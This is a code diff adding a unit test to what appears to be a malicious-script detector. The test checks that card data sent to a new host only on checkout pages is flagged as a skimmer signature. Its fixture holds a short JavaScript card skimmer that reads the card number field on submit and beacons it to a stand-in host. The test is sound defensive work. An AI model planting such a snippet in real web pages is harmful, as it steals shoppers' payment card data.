@@ -982,6 +982,26 @@ mod tests {
         }
     }
 
+    /// Card field values sent to a new host from code gated on checkout pages is the
+    /// checkout-skimmer signature; the same code without the gate is left to the model.
+    #[test]
+    fn a_checkout_gated_card_sender_is_a_signature() {
+        const SIGNED: &str =
+            "card field values sent to a new host, on checkout pages only (checkout skimmer)";
+        let body = r##"document.querySelector("#payment").addEventListener("submit", function () {
+                var n = document.querySelector("input[name=cardnumber]").value;
+                navigator.sendBeacon("https://collect.invalid/c", n);
+            });"##;
+        let gated = format!("if (location.pathname.indexOf('checkout') > -1) {{ {body} }}");
+        let v = classify("x.js", &analyse(&gated), None, Context::default());
+        assert!(
+            v.malicious && v.reasons.iter().any(|r| r.contains(SIGNED)),
+            "{v:?}"
+        );
+        let v = classify("x.js", &analyse(body), None, Context::default());
+        assert!(!v.reasons.iter().any(|r| r.contains(SIGNED)), "{v:?}");
+    }
+
     /// A sign-in form drawn by a script is a fake form as a card form is.
     #[test]
     fn a_drawn_password_form_is_a_fake_form() {
